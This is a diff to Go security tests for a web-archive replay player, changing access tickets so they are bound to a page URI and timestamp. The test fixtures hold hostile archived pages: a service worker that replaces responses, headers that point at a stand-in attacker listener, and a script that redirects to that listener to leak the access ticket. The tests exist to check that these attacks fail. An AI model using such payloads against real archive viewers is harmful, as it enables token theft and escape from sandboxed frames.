@@ -26,11 +26,13 @@ func TestAnArchivedPageCannotLeaveItsFrame(t *testing.T) {
 	p := w.player(engine(t), "maria")
 	origin := serve(t, p)
 	evil, visitors := listener(t)
-	ticket := p.o.Tickets.Issue("maria", w.Now)
 	var secrets atomic.Int64
 	const page, healthy = "http://www.a.example/", "http://b.example/"
 	at := stamp(w.add(w.Page(healthy, htmlHead, "<p id=word>well"), "text/html", 200))
-	address := func(uri string) string { return fmt.Sprintf("%s/open/%s/%s/%s", origin, ticket, at, uri) }
+	address := func(uri string) string {
+		return fmt.Sprintf("%s/open/%s/%s/%s", origin, p.o.Tickets.Issue("maria", uri, at, w.Now), at, uri)
+	}
+	ticket := p.o.Tickets.Issue("maria", page, at, w.Now)
 	d := framed(t, address(page), &secrets)
 	attack, err := os.ReadFile("testdata/attack.html")
 	archivetest.Must(t, err)
@@ -39,7 +41,7 @@ func TestAnArchivedPageCannotLeaveItsFrame(t *testing.T) {
 	w.add(w.Page(page+"sw.js", "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nService-Worker-Allowed: /",
 		"onfetch = (e) => e.respondWith(new Response('taken'))"), "text/javascript", 200)
 	w.add(w.Page(page, htmlHead+"\r\nLink: <"+evil+"/link>; rel=preconnect\r\nRefresh: 9;url="+evil+"\r\nClear-Site-Data: \"*\"",
-		`<p id=word>calm<script>{const f = document.createElement("iframe"); f.src = wbinfo.prefix + "id_/http://www.a.example/raw"; document.body.append(f)}</script>`), "text/html", 200)
+		`<p id=word>calm<img src="/raw"><script>{const f = document.createElement("iframe"); f.src = wbinfo.prefix + "id_/http://www.a.example/raw"; document.body.append(f)}</script>`), "text/html", 200)
 
 	b := browser.Open(t, 300, 200)
 	b.Go(d.URL + framedSignIn)
@@ -78,8 +80,8 @@ func TestAnArchivedPageIsNotShownInATab(t *testing.T) {
 	p := w.player(engine(t), "maria")
 	origin := serve(t, p)
 	evil, visitors := listener(t)
-	ticket := p.o.Tickets.Issue("maria", w.Now)
 	at := stamp(w.add(w.Page("http://b.example/", htmlHead, "<p>well<iframe></iframe>"), "text/html", 200))
+	ticket := p.o.Tickets.Issue("maria", "http://b.example/", at, w.Now)
 	w.add(w.Page("http://www.a.example/", htmlHead, "<script>location = '"+evil+"/leak?"+ticket+"'</script>"), "text/html", 200)
 	var secrets atomic.Int64
 	d := framed(t, fmt.Sprintf("%s/open/%s/%s/http://b.example/", origin, ticket, at), &secrets)
